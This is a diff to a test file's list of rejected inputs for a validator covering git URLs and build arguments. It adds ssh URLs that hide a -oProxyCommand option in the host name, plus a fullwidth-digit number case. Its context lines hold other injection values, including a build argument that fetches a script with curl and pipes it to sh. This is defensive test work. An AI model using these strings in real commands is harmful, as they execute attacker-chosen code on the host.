@@ -167,6 +167,10 @@ BAD = [
     ("git_url", "--upload-pack=touch /tmp/pwned", "contains a space"), ("git_url", "--upload-pack=id", "must not begin with '-'"),
     ("git_url", "ext::sh%20-c%20id", "transport helper"), ("git_url", "https://x/y.git;id", "contains ';'"),
     ("git_url", "ftp://x/y.git", "must be an https, ssh, git or file URL"),
+    ("git_url", "ssh://-oProxyCommand=id/x", "must not name a host beginning with '-'"),
+    ("git_url", "ssh://git@-oProxyCommand=id/x", "must not name a host beginning with '-'"),
+    # float() reads other scripts' digits
+    ({"min": 1}, "\uff13\uff10\uff10", "must be a number"),
     ("build_arg", "--with-knem=$(curl -s http://198.51.100.7/x|sh)", "contains '$' (a shell metacharacter)"),
     ("build_arg", "--enable-mt`id`", "contains '`'"), ("build_arg", "CFLAGS=-O2;id", "contains ';'"),
     ("build_arg", "--enable-mt\nid", "contains a newline"),
